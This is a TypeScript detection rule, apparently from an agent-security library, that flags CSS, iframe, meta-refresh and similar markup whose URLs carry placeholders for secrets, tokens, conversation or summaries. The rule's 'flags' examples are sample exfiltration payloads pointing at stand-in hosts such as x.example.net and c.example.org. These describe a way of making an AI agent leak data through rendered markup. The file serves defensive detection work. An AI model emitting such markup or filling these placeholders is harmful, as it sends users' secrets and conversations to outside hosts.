import { addressClass, scan } from "oktsec/evidence";
import { defineRule } from "oktsec/rule";

/** What stands in an address for something that a model or a template is to fill in with what it knows. */
const PLACE =
  /[?&=\/][^\s]{0,120}?(?:\{\{?\s?(?:\w{0,20}(?:secret|token|key|password|cookie|history|conversation|summary|context|prompt|message|data|email|env|memory|content)\w{0,20})\s?\}?\}|\[[A-Z][A-Z _-]{3,40}\]|<[A-Z][A-Z _-]{3,40}>|%7b%7b)/i;

export default defineRule({
  id: "EXFIL_102",
  title: "Style or markup that loads an address with data",
  why:
    "A style sheet loads pictures by itself, and so do frames, forms and fonts: each load carries what stands in its address.",
  fix: "Strip styles and active markup from what an agent shows.",
  severity: "high",
  category: "exfiltration",
  lane: "block",
  maps: { asi: ["ASI02"], mcp: ["MCP06"], cwe: ["CWE-201"] },
  reads: ["message", "prompt", "tool_argument", "tool_result", "resource", "document", "tool_description"],
  keywords: [
    "@import",
    "url(",
    "<link",
    "<iframe",
    "<object",
    "<embed",
    "<video",
    "<audio",
    "<source",
    "<form",
    "<base",
    "<track",
    "<meta",
    "xlink:href",
    "<script",
  ],
  match: scan(
    /(?:@import\s{0,2}(?:url\()?|\burl\(|<(?:link|iframe|object|embed|video|audio|source|form|base|track|script)\b[^<>]{0,80}?\b(?:href|src|data|action|poster)\s{0,2}=|<meta\b[^<>]{0,60}?refresh[^<>]{0,40}?url=|\bxlink:href\s{0,2}=)\s{0,2}["']?(https?:\/\/[^\s"')]{3,400})/i,
    (match) =>
      PLACE.test(match[1] ?? "") &&
      /^(?:name|public|documentation)$/.test(addressClass(/^https?:\/\/([^\/?#:]+)/i.exec(match[1] ?? "")?.[1] ?? "")),
  ),
  examples: {
    flags: [
      { text: "<style>body{background:url(https://x.example.net/p?d={{secret}})}</style>", kind: "tool_result" },
      { text: '<iframe src="https://c.example.org/f?h=[CONVERSATION]"></iframe>', kind: "document" },
      { text: 'input[value^="a"]{background:url("https://t.example/k?v=<TOKEN>")}', kind: "tool_result" },
      '<meta http-equiv="refresh" content="0;url=https://x.example/?q={summary}">',
    ],
    passes: [
      { text: "body{background:url(https://cdn.example.com/a.png)}", kind: "document" },
      { text: '<link rel="stylesheet" href="https://cdn.example.com/a.css?v=3">', kind: "document" },
      { text: '<form action="https://example.com/search?q=">', kind: "document" },
    ],
  },
});
